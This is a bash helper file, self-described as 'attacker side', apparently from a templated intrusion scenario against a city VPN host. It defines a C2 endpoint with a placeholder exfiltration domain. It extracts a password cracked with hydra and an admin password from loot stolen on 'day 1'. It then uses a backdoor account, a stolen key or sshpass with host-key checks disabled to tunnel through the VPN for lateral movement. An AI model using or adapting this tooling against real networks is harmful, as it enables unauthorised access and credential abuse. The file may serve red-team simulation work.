# Operator helpers (attacker side, sourced by the other scripts).
OPS=/root/ops
KEY=$OPS/id_ed25519
TARGET=vpn.city.minato.example
C2=http://{{exfil_domain}}:8080
SSHO="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8"

log() { echo "$(date -u +%FT%TZ) $*" >> "$OPS/op.log"; }

# Type commands into an interactive session at a human pace: sudo relays whatever is typed while
# its command runs, so type-ahead would be swallowed. A line "#sleep N" waits N more seconds.
typed() {
    while IFS= read -r line; do
        case $line in
            "#sleep "*) sleep "${line#\#sleep }" ;;
            *) printf '%s\n' "$line"; sleep 1 ;;
        esac
    done
}

# hoshu's password as cracked by hydra (empty if the brute force found nothing)
hoshu_pw() { sed -n 's/.*login: hoshu *password: \(.*\)$/\1/p' "$OPS/hydra-vpn01.txt" 2>/dev/null | head -n 1; }

# fs01's admin password, read from the vendor memo stolen on day 1
fs_pw() { sed -n 's/.*fsadmin *\/ *\([^ ]*\).*/\1/p' /var/lib/c2/loot/*vpn01-memo.txt 2>/dev/null | head -n 1; }

# Can this ssh command (destination last) tunnel through vpn01? (what a jump needs; works even
# for an account whose shell is nologin)
tunnels() { "$@" -W localhost:22 </dev/null 2>/dev/null | head -c 4 | grep -q SSH-; }

# A working way through vpn01: sets VIA (an ssh command for ProxyCommand) and USER_ON_VPN.
vpn_access() {
    for u in {{backdoor_user}} hoshu; do
        if [ -f "$KEY" ] && tunnels ssh $SSHO -o BatchMode=yes -i "$KEY" "$u@$TARGET"; then
            VIA="ssh $SSHO -o BatchMode=yes -i $KEY $u@$TARGET"; USER_ON_VPN=$u; return 0
        fi
    done
    pw=$(hoshu_pw)
    if [ -n "$pw" ] && tunnels sshpass -p "$pw" ssh $SSHO -o PubkeyAuthentication=no "hoshu@$TARGET"; then
        VIA="sshpass -p $pw ssh $SSHO -o PubkeyAuthentication=no hoshu@$TARGET"; USER_ON_VPN=hoshu; return 0
    fi
    return 1
}
